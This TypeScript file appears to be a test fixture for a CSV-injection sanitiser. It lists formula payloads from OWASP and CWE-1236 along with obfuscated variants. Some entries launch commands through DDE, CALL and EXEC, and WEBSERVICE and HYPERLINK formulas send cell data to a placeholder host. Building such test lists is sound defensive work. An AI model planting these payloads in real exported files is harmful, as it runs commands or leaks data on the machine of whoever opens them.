/**
 * Texts that a spreadsheet may take for a formula, a link, a number or a date. Sources: OWASP's page on CSV injection,
 * CWE-1236, and forms of our own: other signs, other white space in front, other scripts' signs.
 */

const formulas: readonly string[] = [
  "=1+1",
  "=A1",
  "=SUM(A1:A9)",
  '=HYPERLINK("http://example.invalid/"&A1,"see")',
  '=WEBSERVICE("http://example.invalid/?"&A1)',
  '=IMPORTXML("http://example.invalid","//a")',
  '=IMAGE("http://example.invalid/x.png")',
  '=FILTERXML("<a/>","//a")',
  '=RTD("prog","server","topic")',
  '=DDE("cmd";"/C calc";"x")',
  "=cmd|'/c calc'!A0",
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  '=CALL("kernel32","WinExec","JJJ","calc",0)',
  '=EXEC("calc.exe")',
  "='[evil.xlsx]Sheet1'!A1",
  "=Table1[[#This Row],[UPN]]",
  "=LAMBDA(x,x)(1)",
  "{=1+1}",
  "+1",
  "+SUM(1)",
  "+A1&B1",
  "-1",
  "-2+3",
  "-A1",
  "--1",
  "- use EPM",
  "@SUM(A1)",
  "@A1",
  "@x",
  "=-1",
  "+=1+1",
  "@=1+1",
  "=+1",
  "%0A=1+1",
];

const behindSpace: readonly string[] = [
  " =1+1",
  "\t=1+1",
  "\n=1+1",
  "\r=1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "\u2060=1+1",
  "\u3000=1+1",
  "  @SUM(A1)",
  "\t+1",
];

const otherSigns: readonly string[] = [
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  "﹦1+1",
  "−1+1",
  "'=1+1",
  "''=1+1",
  '"=1+1"',
  "`=1+1",
];

const looksLike: readonly string[] = [
  "0012",
  "1E5",
  "1-Mar",
  "SEPT1",
  "1/2",
  "3-4",
  "12:30",
  "50%",
  "£5",
  "(5)",
  "1,000",
  "TRUE",
  "false",
  "#N/A",
  "#REF!",
  "R1C1",
];

const longMinus = `-${" an action that goes on and on".repeat(300)}`;

export const injectionPayloads: readonly string[] = [
  ...formulas,
  ...behindSpace,
  ...otherSigns,
  ...looksLike,
  longMinus,
];
